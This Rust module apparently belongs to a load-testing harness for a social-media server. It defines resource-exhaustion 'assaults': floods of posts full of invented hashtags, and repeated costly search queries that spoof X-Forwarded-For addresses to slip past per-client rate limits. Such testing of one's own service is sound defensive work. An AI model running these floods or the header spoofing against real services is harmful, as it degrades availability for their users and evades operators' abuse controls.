//! Attacks by what users write and search for.

use std::time::Duration;

use anyhow::Result;
use serde_json::json;

use crate::client::Client;
use crate::siege::attacks::{Assault, sign_up};
use crate::siege::window::Window;
use crate::siege::wire::wave;
use crate::siege::{Target, head_of};

const POSTS_PER_ACCOUNT: usize = 60;

fn post(author: &Client, text: &str) -> Vec<u8> {
    author.bytes("POST", "/api/v1/posts", "application/json", json!({"text": text}).to_string().as_bytes())
}

/// Posts with nothing but invented hashtags.
pub(crate) fn hashtags<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    const PER_POST: usize = 30;
    let authors =
        (0..if target.is_short { 1 } else { 4 }).map(|_| sign_up(target)).collect::<Result<Vec<_>>>()?;
    let round = target.round;
    Ok(Box::new(move |window| {
        let mut invented = 0;
        while !window.is_over() {
            let requests = authors.iter().map(|author| {
                let tags = invented..invented + PER_POST;
                invented += PER_POST;
                post(author, &tags.map(|number| format!("#x{round}y{number} ")).collect::<String>())
            });
            wave(target.server, &requests.collect::<Vec<_>>(), window)?;
            window.pause(Duration::from_millis(100));
        }
        Ok(())
    }))
}

/// Anonymous searches for a long phrase that occurs in many long posts.
pub(crate) fn searches<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    const CLIENTS: usize = 12;
    let accounts = match (target.is_short, target.round) {
        (true, _) => 4,
        (false, 1) => 50,
        // The posts of the first round are still there.
        (false, _) => 0,
    };
    for _ in 0..accounts {
        plant_posts(target)?;
    }
    let round = target.round;
    let path = format!("/api/v1/search/posts?q={}", "%EA%B0%80%EB%82%98".repeat(50));
    Ok(Box::new(move |window| {
        for number in 0.. {
            if window.is_over() {
                break;
            }
            // New networks, before the limit of one is reached.
            let address = |client| format!("172.{round}.{}.{client}", number / 100);
            let request = |client| {
                head_of("GET", &path, &[("x-forwarded-for", &address(client)), ("connection", "close")])
            };
            wave(target.server, &(0..CLIENTS).map(request).collect::<Vec<_>>(), window)?;
        }
        Ok(())
    }))
}

fn plant_posts(target: &Target<'_>) -> Result<()> {
    let author = sign_up(target)?;
    let planted = vec![post(&author, &"가나 나가 ".repeat(300)); POSTS_PER_ACCOUNT / 3];
    Ok((0..3).try_for_each(|_| wave(target.server, &planted, &Window::default()))?)
}
